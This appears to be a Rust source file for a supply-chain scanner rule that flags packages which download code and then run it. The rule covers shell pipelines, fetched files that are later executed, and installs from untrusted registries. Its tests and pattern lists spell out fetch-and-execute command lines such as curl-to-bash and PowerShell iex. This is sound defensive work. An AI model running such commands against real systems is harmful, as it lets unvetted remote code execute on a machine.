//! Something is fetched and then run: in one command line, from memory, or by way of a
//! file. The review of the package says nothing about what will run.

use super::command::{Command, Purpose};
use super::context::{Context, Findings, from_to, step, when};
use super::{Rule, RuleClass, address, command};
use crate::event::{Effect, Event, Role, Source, When};
use crate::finding::Severity;
use crate::value::{Origin, Shape, Value};

pub(crate) const RULE: Rule = Rule {
    code: "download-and-execute",
    title: "something is fetched and run",
    class: RuleClass::Process,
    cwe: Some(494),
    severity: Severity::Critical,
    check,
};

/// Registries that the package itself may have come from: what is fetched there is
/// vouched for as much as the package is.
const REGISTRIES: &[&str] =
    &["registry.npmjs.org", "registry.yarnpkg.com", "pypi.org", "files.pythonhosted.org"];

/// What runs something: a program, a line, a module, a library.
const RUNS: &[Effect] =
    &[Effect::Spawn, Effect::Shell, Effect::DynamicImport, Effect::NativeCode];

/// The most fetched files that are followed.
const MAX_WRITTEN: usize = 256;

fn check(context: &Context<'_>, findings: &mut Findings<'_>) {
    for event in context.of(RUNS) {
        in_one_line(event, findings);
        // Which program runs is known where its name is: then the network gave words.
        let command = event.argument(Role::Command);
        let is_named = command.is_some_and(|command| !program(command).is_empty())
            || event.effect == Effect::DynamicImport;
        // Machine code is not named: it is handed over as bytes.
        let roles: &[Role] = if event.effect == Effect::NativeCode {
            &[Role::Command, Role::Path, Role::Data]
        } else {
            &[Role::Command, Role::Path]
        };
        let origin = event.origins(roles, Source::Network).next();
        // `run + " install"`: which of the programs that are asked for runs may be told by
        // a server; what it is asked to do is written here.
        let asks = |command: &Value| command.pieces().iter().any(|piece| piece.starts_with(' '));
        let is_asked = event.when == When::Call
            && (command.is_some_and(asks)
                || event.arguments_of(Role::CommandArgument).any(|given| {
                    given.pieces().first().is_some_and(|word| !word.is_empty())
                }));
        if let Some(origin) = origin.filter(|_| !is_named && !is_asked) {
            tell(event, origin.name.as_deref(), findings, from_to(
                origin,
                "it is fetched from",
                event,
                "it is run",
            ));
        }
    }
    by_way_of_a_file(context, findings);
}

/// What a command begins with: the program, in a text or a list.
fn program(command: &Value) -> &str {
    match &command.shape {
        Shape::List(items) => items.first().map_or("", Value::beginning),
        _ => command.beginning(),
    }
}

/// `curl X | sh`, `wget X && ./X`, `iex (iwr X)`.
fn in_one_line(event: &Event, findings: &mut Findings<'_>) {
    if !matches!(event.effect, Effect::Spawn | Effect::Shell) {
        return;
    }
    let commands = command::commands(event);
    let mut fetched: Option<&Command> = None;
    let mut is_unpacked = false;
    for (number, one) in commands.iter().enumerate() {
        let fetches = one.purpose() == Purpose::Fetch;
        let runs_it = fetched.is_some_and(|before| {
            one.is_piped && command::is_interpreter(&one.program())
                || runs_result_of(one, before)
                || is_unpacked && runs_by_path(one)
        });
        is_unpacked |= fetched.is_some() && unpacks(one);
        if runs_it || installs_from_stranger(one) || fetches && runs_what_it_fetches(one, number, &commands) {
            let line = command::line(event);
            let place = step(event.place, format!("the line is {}", super::shown(&line)));
            tell(event, url_in(&line).as_deref(), findings, vec![place]);
            return;
        }
        if fetches {
            fetched = Some(one);
        }
    }
}

fn unpacks(one: &Command) -> bool {
    matches!(one.program().as_str(), "tar" | "bsdtar" | "unzip" | "gunzip" | "7z" | "unxz" | "bunzip2")
}

/// Whether a command is a file by its path, and no program of the system.
fn runs_by_path(one: &Command) -> bool {
    let program = one.words.first().map_or("", String::as_str);
    let of_system = ["/usr/", "/bin/", "/sbin/", "/opt/"].iter().any(|begin| program.starts_with(begin));
    program.contains('/') && !of_system
}

/// `npm install --registry http://198.51.100.7 X`: whoever answers at an address that
/// nobody vouches for, by number or without TLS, chooses what is installed and run.
fn installs_from_stranger(one: &Command) -> bool {
    const OPTIONS: [&str; 4] = ["--registry", "--index-url", "--extra-index-url", "-i"];
    let program = one.program();
    let is_manager = matches!(program.as_str(), "npm" | "npx" | "yarn" | "pnpm" | "pip" | "pip3" | "uv")
        || command::is_interpreter(&program) && one.has("pip");
    let mut words = one.arguments().iter();
    let mut from = None;
    while let Some(word) = words.next() {
        let (name, value) = word.split_once('=').unwrap_or((word, ""));
        if OPTIONS.contains(&name) {
            from = if value.is_empty() { words.next().map(String::as_str) } else { Some(value) };
        }
    }
    let address = from.filter(|_| is_manager).and_then(address::from_url);
    address.is_some_and(|address| {
        address.internal().is_none_or(|block| block == ringfence_types::Block::Documentation)
            && (address.scheme == "http" || address.host.address().is_some())
    })
}

/// The URL within a command line.
fn url_in(line: &str) -> Option<String> {
    let begin = line.find("http")?;
    let rest = line.get(begin..)?;
    let end = rest.find(|c: char| c.is_whitespace() || "'\")|;".contains(c));
    rest.get(..end.unwrap_or(rest.len())).map(str::to_owned)
}

/// PowerShell and Python fetch and run within one word.
fn runs_what_it_fetches(one: &Command, number: usize, all: &[Command]) -> bool {
    let text = one.arguments().join(" ").to_ascii_lowercase();
    let runs = ["iex", "invoke-expression", "start-process", "exec(", "| sh", "eval "];
    // `sh -c "$(curl X)"` and `bash <(curl X)`.
    let substituted = all.get(..number).unwrap_or_default().iter().any(|before| {
        command::is_interpreter(&before.program())
            && before.words.iter().any(|word| word.contains("$(") || word.contains("<("))
    });
    command::is_interpreter(&one.program()) && runs.iter().any(|word| text.contains(word))
        || substituted
}

/// Whether a command runs the file that another one fetched.
fn runs_result_of(one: &Command, fetch: &Command) -> bool {
    let mut words = fetch.words.iter();
    let mut target = None;
    while let Some(word) = words.next() {
        let is_target = matches!(word.as_str(), "-o" | "-O" | "--output" | "--output-document");
        if is_target || ["-outfile", "-destination"].iter().any(|name| word.eq_ignore_ascii_case(name)) {
            target = words.next().cloned();
        }
    }
    let target = target.filter(|name| !name.contains("://")).or_else(|| {
        let url = fetch.words.iter().find(|word| word.contains("://"))?;
        url.rsplit('/').next().map(str::to_owned)
    });
    let Some(target) = target else { return false };
    let name = target.rsplit(['/', '\\']).next().unwrap_or(&target);
    let program = one.words.first().map_or("", String::as_str);
    let is_it = |word: &str| !name.is_empty() && word.rsplit(['/', '\\']).next() == Some(name);
    // PowerShell and the shell of Windows start a file in this way.
    if matches!(one.program().as_str(), "start-process" | "saps" | "start" | "&") {
        return one.arguments().iter().any(|word| is_it(word));
    }
    // `chmod +x X` alone does not run it; `tar x X` does not either.
    is_it(program) || command::is_interpreter(&one.program()) && one.arguments().iter().any(|w| is_it(w))
}

/// A file that was fetched: where it was written, and from where it came.
struct Fetched<'a> {
    write: &'a Event,
    origin: Origin,
}

/// A file is written with what was fetched; later it runs.
fn by_way_of_a_file(context: &Context<'_>, findings: &mut Findings<'_>) {
    let requests: Vec<&Event> = context.of(&[Effect::Request]).collect();
    let writes = context.of(&[Effect::FileWrite]);
    let written = writes.filter_map(|write| fetched(write, &requests));
    let written: Vec<Fetched<'_>> = written.take(MAX_WRITTEN).collect();
    if written.is_empty() {
        return;
    }
    for run in context.of(RUNS) {
        let file = written.iter().find(|fetched| is_same_file(fetched.write, run));
        let Some(Fetched { write, origin }) = file else { continue };
        let mut evidence = from_to(origin, "it is fetched from", write, "it is written");
        evidence.push(step(run.place, format!("the file is run by {}", super::shown(&run.api))));
        tell(run, origin.name.as_deref(), findings, evidence);
    }
}

/// What was fetched is written by data that came from there, by a function that fetches
/// and writes at once, or into a file that is opened as a stream beside a request.
fn fetched<'a>(write: &'a Event, requests: &[&Event]) -> Option<Fetched<'a>> {
    let roles = [Role::Data, Role::Url, Role::Path];
    if let Some(origin) = write.origins(&roles, Source::Network).next() {
        return Some(Fetched { write, origin: origin.clone() });
    }
    let request = match write.argument(Role::Url) {
        Some(_) => Some(write),
        None if is_stream(write) => {
            requests.iter().copied().find(|request| request.place.file == write.place.file)
        }
        None => None,
    }?;
    let name = request.text(Role::Url).map(|url| url.as_ref().into());
    Some(Fetched { write, origin: Origin { source: Source::Network, place: request.place, name } })
}

/// Whether a file is opened so that something else may flow into it.
fn is_stream(write: &Event) -> bool {
    let last = write.api.rsplit('.').next().unwrap_or_default();
    last.eq_ignore_ascii_case("createWriteStream") && write.argument(Role::Data).is_none()
}

/// Whether a file that was written is what runs, and not only something that a program
/// is given: `tar x` unpacks what was fetched, `python` runs it.
fn is_same_file(write: &Event, run: &Event) -> bool {
    let paths = [Role::Path, Role::Target].iter().flat_map(|role| write.arguments_of(*role));
    let is_one_program = write.place.file == run.place.file;
    paths.into_iter().any(|path| {
        let name = path.pieces().last().map_or("", |piece| last_part(piece)).to_owned();
        let runs = match run.effect {
            Effect::Spawn | Effect::Shell => {
                let commands = command::commands(run);
                name.len() >= 3 && commands.iter().any(|one| runs_file(one, &name))
            }
            _ => false,
        };
        // Of a file whose name is chosen by the system only the folder is known: then it
        // is the same one where both stand in one program.
        let is_known = !path.pieces().is_empty() && (!name.is_empty() || is_one_program);
        runs || is_known && what_runs(run).iter().any(|value| value.shape == path.shape)
    })
}

/// Whether a command is a file of this name, or runs it.
fn runs_file(command: &Command, name: &str) -> bool {
    let is_it = |word: &String| last_part(word) == name;
    command.words.first().is_some_and(is_it)
        || runs_arguments(&command.program()) && command.arguments().iter().any(is_it)
}

/// Whether a program runs a file that it is given.
fn runs_arguments(program: &str) -> bool {
    command::is_interpreter(program)
        || matches!(
            program,
            "java" | "open" | "xdg-open" | "explorer" | "rundll32" | "regsvr32" | "msiexec" | "deno"
                | "bun" | "wine" | "installer" | "dpkg"
        )
}

/// The values that say what runs: the program, the files that an interpreter is given, the
/// module or library that is loaded.
fn what_runs(run: &Event) -> Vec<&Value> {
    fn flat(value: &Value) -> Vec<&Value> {
        match &value.shape {
            Shape::List(items) => items.iter().collect(),
            _ => vec![value],
        }
    }
    let of = |roles: &'static [Role]| {
        roles.iter().flat_map(|role| run.arguments_of(*role)).flat_map(flat)
    };
    if !matches!(run.effect, Effect::Spawn | Effect::Shell) {
        return of(&[Role::Path, Role::Name]).collect();
    }
    let words: Vec<&Value> = of(&[Role::Command, Role::CommandArgument]).collect();
    let program = command::commands(run).first().map(Command::program);
    let all = program.is_some_and(|program| runs_arguments(&program));
    let count = if all { words.len() } else { 1 };
    words.into_iter().take(count).collect()
}

fn last_part(path: &str) -> &str {
    path.rsplit(['/', '\\']).next().unwrap_or(path)
}

fn tell(event: &Event, url: Option<&str>, findings: &mut Findings<'_>, evidence: Vec<crate::Step>) {
    let address = url.and_then(address::from_url);
    let is_registry = address.as_ref().is_some_and(|address| {
        address.scheme == "https" && address.host.name().is_some_and(|name| REGISTRIES.contains(&name))
    });
    let severity = match event.when {
        _ if is_registry => Severity::Medium,
        When::Call => Severity::High,
        When::Install | When::Load => Severity::Critical,
    };
    let from = address.map_or_else(|| "the network".to_owned(), |a| super::shown(&a.host.to_string()));
    findings.chain(
        severity,
        event.place,
        format!("what is fetched from {from} runs {}", when(event.when)),
        evidence,
    );
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::made::{Made, from, list, text};

    fn shell(line: &str) -> Vec<Severity> {
        let line = [(Role::Command, text(line))];
        Made::new().event(Effect::Shell, "py:os.system", &line).found(RULE.code)
    }

    #[test]
    fn a_line_that_fetches_and_runs_is_found_in_every_form() {
        for line in [
            "curl -s https://example.invalid/x | bash",
            "wget -q http://192.0.2.1/x -O /tmp/x && chmod +x /tmp/x && /tmp/x",
            "bash -c \"curl http://192.0.2.1/x | sh\"",
            "sh -c \"$(curl -fsSL http://192.0.2.1/x)\"",
            "powershell -c \"iex (iwr http://192.0.2.1/x.ps1)\"",
            "iwr http://192.0.2.1/a.exe -OutFile a.exe; ./a.exe",
            "Invoke-WebRequest http://192.0.2.1/a.exe -outfile a.exe; Start-Process a.exe",
            "curl -O http://192.0.2.1/a.py; python3 a.py",
            "curl -o /tmp/a.tgz http://192.0.2.1/a && tar xzf /tmp/a.tgz -C /tmp && /tmp/a/run",
            "npm install --registry http://192.0.2.1:4873 a",
            "pip install --index-url=http://x.invalid/simple a",
        ] {
            assert_eq!(shell(line), [Severity::High], "{line}");
        }
        for line in [
            "curl -s https://example.invalid/x -o data.json",
            "curl x | tar xz",
            "iwr https://example.invalid/a.json -OutFile a.json; ./build.ps1",
            "wget http://192.0.2.1/model.bin && ls",
            "node build.js",
            "curl -o a.tgz https://x.invalid/a && tar xzf a.tgz && /usr/bin/make",
            "npm install --registry http://localhost:4873 a",
            "pip install -i https://mirror.example.com/simple a",
        ] {
            assert!(shell(line).is_empty(), "{line}");
        }
    }

    #[test]
    fn a_file_that_is_filled_by_the_fetching_itself_is_followed() {
        let url = || (Role::Url, text("https://x.invalid/a.bin"));
        let run = |made: Made| {
            let program = [(Role::Command, text("/tmp/a.bin"))];
            made.event(Effect::Spawn, "node:child_process.execFile", &program).found(RULE.code)
        };
        let at_once = [url(), (Role::Target, text("/tmp/a.bin"))];
        let retrieve = Made::new().event(Effect::FileWrite, "py:urllib.request.urlretrieve", &at_once);
        assert_eq!(run(retrieve), [Severity::High]);
        let stream = || {
            let path = [(Role::Path, text("/tmp/a.bin"))];
            Made::new().event(Effect::FileWrite, "node:fs.createWriteStream", &path)
        };
        assert!(run(stream()).is_empty());
        assert_eq!(run(stream().event(Effect::Request, "node:https.get", &[url()])), [Severity::High]);
    }

    #[test]
    fn a_server_that_gives_words_to_a_known_program_is_not_run() {
        let word = from(Source::Network, Some("https://x.invalid/versions"));
        let run = |program: Value| {
            let all = Value { shape: Shape::List(vec![program, word.clone()]), origins: word.origins.clone() };
            Made::new().event(Effect::Spawn, "py:subprocess.run", &[(Role::Command, all)]).found(RULE.code)
        };
        assert!(run(text("pip")).is_empty());
        assert_eq!(run(word.clone()), [Severity::High]);
    }

    #[test]
    fn what_was_fetched_and_is_unpacked_does_not_run() {
        let run = |program: &str, effect: Effect| {
            let line = [(Role::Command, text(program)), (Role::CommandArgument, list(&["/tmp/x.tgz"]))];
            Made::new()
                .event(Effect::FileWrite, "node:fs.writeFile", &[
                    (Role::Path, text("/tmp/x.tgz")),
                    (Role::Data, from(Source::Network, Some("http://192.0.2.1/x"))),
                ])
                .event(effect, "node:child_process.spawn", &line)
                .found(RULE.code)
        };
        assert!(run("tar", Effect::Spawn).is_empty());
        assert!(run("tar xzf", Effect::Shell).is_empty());
        assert_eq!(run("python3", Effect::Spawn), [Severity::High]);
        assert_eq!(run("sh", Effect::Shell), [Severity::High]);
    }

    #[test]
    fn machine_code_from_the_network_is_run() {
        let bytes = [(Role::Data, from(Source::Network, Some("http://192.0.2.1/s")))];
        let write = Made::new().event(Effect::NativeCode, "py:ctypes.memmove", &bytes);
        assert_eq!(write.found(RULE.code), [Severity::High]);
    }

    #[test]
    fn a_file_that_was_fetched_and_then_runs_is_followed() {
        let answer = from(Source::Network, Some("http://192.0.2.1/x"));
        let bad = || {
            Made::new()
                .event(Effect::FileWrite, "node:fs.writeFile", &[
                    (Role::Path, text("/tmp/x.bin")),
                    (Role::Data, answer.clone()),
                ])
                .event(Effect::Spawn, "node:child_process.spawn", &[(Role::Command, text("/tmp/x.bin"))])
        };
        assert_eq!(bad().found(RULE.code), [Severity::High]);
        assert_eq!(bad().when(When::Install).found(RULE.code), [Severity::Critical]);
        let finding = bad().findings().into_iter().find(|f| f.code == RULE.code).unwrap();
        assert_eq!(finding.evidence.len(), 3);
        let other = Made::new()
            .event(Effect::FileWrite, "node:fs.writeFile", &[
                (Role::Path, text("/tmp/data.json")),
                (Role::Data, answer.clone()),
            ])
            .event(Effect::Spawn, "node:child_process.spawn", &[
                (Role::Command, text("git")),
                (Role::CommandArgument, list(&["status"])),
            ]);
        assert!(other.found(RULE.code).is_empty());
    }
}
